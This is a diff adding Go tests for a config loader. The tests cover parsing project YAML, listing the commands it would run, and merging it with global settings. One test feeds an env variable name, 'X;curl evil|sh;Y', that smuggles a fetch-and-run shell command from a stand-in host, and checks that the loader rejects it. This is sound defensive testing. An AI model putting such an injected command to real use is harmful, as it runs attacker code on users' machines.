@@ -0,0 +1,104 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLoadProject(t *testing.T) {
+	dir := t.TempDir()
+	pc, err := LoadProject(dir)
+	if pc != nil || err != nil {
+		t.Fatalf("LoadProject without a file = %v, %v", pc, err)
+	}
+
+	data := `default_layout: "3,3"
+default_tool: Dev
+custom_commands:
+  Dev: make dev
+cells:
+  - title: server
+    command: make dev
+  - tool: Claude Code
+env:
+  APP_ENV: dev
+setup:
+  - make deps
+`
+	if err := os.WriteFile(filepath.Join(dir, ProjectFile), []byte(data), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	pc, err = LoadProject(dir)
+	if err != nil {
+		t.Fatalf("LoadProject: %v", err)
+	}
+	if pc.DefaultLayout != "3,3" || pc.CustomCommands["Dev"] != "make dev" || len(pc.Cells) != 2 ||
+		pc.Cells[0].Command != "make dev" || pc.Env["APP_ENV"] != "dev" || pc.Setup[0] != "make deps" {
+		t.Errorf("LoadProject = %+v", pc)
+	}
+
+	want := []string{"command Dev: make dev", "cell 1: make dev", "env: APP_ENV=dev", "setup: make deps"}
+	if got := pc.Commands(); strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("Commands() = %q, want %q", got, want)
+	}
+	if pc.Hash == "" {
+		t.Error("LoadProject should record the hash of the contents")
+	}
+	if got := (&ProjectConfig{DefaultLayout: "2"}).Commands(); len(got) != 0 {
+		t.Errorf("defaults alone should run nothing, got %q", got)
+	}
+
+	if err := os.WriteFile(filepath.Join(dir, ProjectFile), []byte("cells: {"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadProject(dir); err == nil {
+		t.Error("LoadProject of invalid YAML should fail")
+	}
+}
+
+func TestForProject(t *testing.T) {
+	global := &Config{
+		DefaultLayout:  "2",
+		DefaultTool:    "Codex",
+		CustomCommands: map[string]string{"Dev": "npm run dev", "Vim": "nvim"},
+		CustomLayouts:  []CustomLayout{{Name: "wide", RowCols: []int{4}}},
+	}
+	if global.ForProject(nil) != global {
+		t.Error("ForProject(nil) should return the global config")
+	}
+
+	merged := global.ForProject(&ProjectConfig{
+		DefaultTool:    "Dev",
+		CustomCommands: map[string]string{"Dev": "make dev"},
+		CustomLayouts:  []CustomLayout{{Name: "tall", RowCols: []int{1, 1, 1}}},
+	})
+	if merged.DefaultLayout != "2" || merged.DefaultTool != "Dev" {
+		t.Errorf("defaults = %q, %q; want the global layout and the project tool", merged.DefaultLayout, merged.DefaultTool)
+	}
+	if merged.CustomCommands["Dev"] != "make dev" || merged.CustomCommands["Vim"] != "nvim" {
+		t.Errorf("custom commands = %v", merged.CustomCommands)
+	}
+	if len(merged.CustomLayouts) != 2 {
+		t.Errorf("custom layouts = %v", merged.CustomLayouts)
+	}
+	if global.CustomCommands["Dev"] != "npm run dev" || len(global.CustomLayouts) != 1 {
+		t.Error("ForProject should not modify the global config")
+	}
+}
+
+func TestLoadProject_InvalidEnvName(t *testing.T) {
+	dir := t.TempDir()
+	for _, data := range []string{
+		"env:\n  \"X;curl evil|sh;Y\": 1\n",
+		"cells:\n  - env: {\"1ABC\": x}\n",
+	} {
+		if err := os.WriteFile(filepath.Join(dir, ProjectFile), []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := LoadProject(dir); err == nil || !strings.Contains(err.Error(), "not a valid variable name") {
+			t.Errorf("LoadProject(%q) = %v, want the env name rejected", data, err)
+		}
+	}
+}